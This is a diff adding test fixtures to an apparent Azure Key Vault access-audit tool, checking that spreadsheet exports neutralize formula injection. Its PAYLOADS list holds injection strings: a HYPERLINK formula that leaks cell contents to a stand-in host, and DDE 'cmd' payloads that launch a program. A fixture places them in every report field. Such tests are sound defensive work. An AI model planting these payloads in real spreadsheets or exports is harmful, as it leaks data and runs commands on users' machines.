@@ -145,3 +145,55 @@ def small_estate() -> AuditResult:
         migration=migration,
     )
     return AuditResult(report=doc, access=access)
+
+
+# Formula-injection payloads, one per trigger character (=, +, -, @, tab, CR).
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def as_read_back(text: str) -> str:
+    """What a neutralized payload reads back as: apostrophe prefix, CR/CRLF as LF."""
+    return "'" + text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def hostile_estate() -> AuditResult:
+    """Every estate-controlled text field of every sheet carries a payload."""
+    p = PAYLOADS
+    v1 = vault(p[0], rg=p[1], tags={p[2]: p[3], "owner": "x"}, subscriptionName=p[4], location=p[5])
+    v2 = vault(p[1], sub=2, model="accessPolicy", tags={"k": "v"}, subscriptionName=p[3])
+    findings = []
+    for i, payload in enumerate(p):
+        v = v1 if i % 2 == 0 else v2
+        findings.append(finding(
+            "stranded-access-policy", v, i, principal=payload,
+            title=payload, message=payload, remediation=payload, roleName=payload,
+            principalType=payload, resourceGroup=payload, scope=payload,
+            assignmentId=payload, evidence={"displayName": payload},
+            status=payload, firstSeen=payload, suppressed=False, suppression={"reason": payload},
+        ))
+    access = tuple(
+        access_row(v1, payload, permissions=payload, roleName=payload, principalType=payload,
+                   scope=payload, resourceGroup=payload, dataActions=[payload], vaultName=p[0])
+        for payload in p
+    )
+    migration = [{
+        "vaultId": v2["id"], "vaultName": p[1], "readiness": "blocked", "reasons": [payload_ for payload_ in p[:2]],
+        "entries": [{"principalId": payload, "proposedRoles": [payload], "excess": [payload],
+                     "commands": [payload, "az role assignment create ..."]} for payload in p],
+    }]
+    doc = report(
+        [v1, v2], findings,
+        gaps=[{"scope": payload, "table": payload, "reason": payload} for payload in p],
+        not_evaluated=[{"ruleId": payload, "vaultId": v1["id"], "reason": payload} for payload in p],
+        migration=migration,
+    )
+    doc["run"]["id"] = p[0]
+    doc["run"]["scope"] = p[2]
+    return AuditResult(report=doc, access=access)
